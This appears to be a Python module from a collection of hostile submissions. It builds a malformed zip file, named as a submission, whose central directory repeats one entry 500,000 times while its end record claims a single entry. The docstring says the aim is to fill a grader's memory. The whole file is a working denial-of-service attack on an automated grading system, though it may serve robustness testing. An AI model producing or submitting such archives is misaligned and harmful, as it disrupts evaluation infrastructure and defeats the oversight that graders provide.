"""Fill the grader's memory: an archive that lists half a million files, and says that it lists one."""

import struct

FAMILY = "archives"

ENTRIES = 500_000


def build(folder):
    fields = (20, 0, 0, 0, 0x5821, 0, 0, 0, 9, 0)
    head = struct.pack("<4s5H3L2H", b"PK\3\4", *fields) + b"linear.py"
    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, *fields, 0, 0, 0, 0, 0) + b"linear.py"
    contents = entry * ENTRIES
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, len(contents), len(head), 0)
    path = folder / "submission.zip"
    path.write_bytes(head + contents + end)
    return path
